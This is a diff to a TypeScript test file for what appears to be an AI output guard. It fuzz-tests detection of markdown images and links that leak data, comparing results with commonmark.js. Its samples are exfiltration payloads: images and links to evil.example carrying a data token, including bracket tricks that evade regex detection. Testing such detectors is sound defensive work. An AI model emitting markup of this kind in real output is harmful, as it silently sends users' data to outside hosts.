@@ -1,6 +1,7 @@
 import assert from "node:assert/strict";
 import { readFileSync } from "node:fs";
 import { describe, it } from "node:test";
+import { HtmlRenderer, Parser } from "commonmark";
 import fc from "fast-check";
 import { Guard } from "./pipeline.js";
 import { FEATURE_BITS, hashedFeatures, weightedFeatureSum } from "./features.js";
@@ -1107,6 +1108,63 @@ describe("output checks and redaction", () => {
     for (const text of benign) assert.deepEqual(types(findUnsafeOutput(text)), [], text);
   });
 
+  it("finds markdown images and data-carrying links wherever CommonMark makes them (differential against commonmark.js)", () => {
+    // Each was missed when the bracket text was a regular expression: nested, escaped or broken brackets.
+    const data = "Zq8vN2rT5wX7pL4mZq8vN2rT5wX7pL4m";
+    for (const text of [
+      `![a [b] c](https://evil.example/p.png?d=${data})`,
+      `![a\\]b](https://evil.example/p.png)`,
+      `![a\nb](https://evil.example/p.png)`,
+      `![![x](y)](https://evil.example/p.png)`,
+      `[![x](https://evil.example/p.png)](https://docs.example.com)`,
+      `![a \`]\` b](https://evil.example/p.png)`, // a code span hides the bracket: still an image
+    ])
+      assert.ok(types(findUnsafeOutput(text)).includes("external_image"), text);
+    // A destination holds balanced parentheses: the query after them is the URL's too.
+    assert.deepEqual(types(findUnsafeOutput(`[x](https://evil.example/a(b)?d=${data})`)), ["data_in_link"]);
+    assert.deepEqual(types(findUnsafeOutput(`<https://evil.example/c?d=${data}>`)), ["data_in_link"]); // an autolink
+    assert.deepEqual(
+      types(findUnsafeOutput("[a [b] c](https://docs.example.com/x) and [d](https://example.com/y)")),
+      [],
+    );
+    const pieces = [
+      "!",
+      "[",
+      "]",
+      "](",
+      ")",
+      "(",
+      "\\",
+      "`",
+      "<",
+      ">",
+      " ",
+      "\n",
+      "\n\n",
+      "word",
+      "https://evil.example/p.png",
+      `https://evil.example/a(b)?d=${data}`,
+      `https://evil.example/c?d=${data}`,
+      "https://docs.example.com/x",
+    ];
+    const parser = new Parser();
+    const renderer = new HtmlRenderer();
+    fc.assert(
+      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 40 }), (parts) => {
+        const text = parts.join("");
+        const html = renderer.render(parser.parse(text));
+        const found = findUnsafeOutput(text, { allowedHosts: ["docs.example.com"] });
+        // Absolute URLs only: `![x](!https://…)` is a path on the page's own host.
+        const outside = (url: string) => url.startsWith("https://evil.");
+        const external = [...html.matchAll(/<img src="([^"]*)"/g)].some((m) => outside(m[1]!));
+        if (external) assert.ok(types(found).includes("external_image"), `${JSON.stringify(text)} -> ${html}`);
+        const dataLink = [...html.matchAll(/<a href="([^"]*)"/g)].some((m) => outside(m[1]!) && m[1]!.includes(data));
+        if (dataLink) assert.ok(found.length > 0, `${JSON.stringify(text)} -> ${html}`);
+      }),
+      { numRuns: 3000, seed: 20261129 },
+    );
+  });
+
   it("markup inside markdown code is text; outside it, after it, or with codeIsText off it is active", () => {
     const canary = makeCanary();
     const code = [
@@ -1257,6 +1315,11 @@ describe("every scanner is linear-time on adversarial input", () => {
     open_images: "<img ",
     quoted_values: "<a b=\"<c d='",
     link_destinations: "](jav&#x61;",
+    image_openers: "![",
+    nested_images: "![a](",
+    open_parentheses: "[a](b(",
+    balanced_parentheses: "[a](b(c)",
+    loose_brackets: "![a] ](",
     leet_word: "a1a",
     leet_words: "a1aa ",
     spelled_letters: "a.",
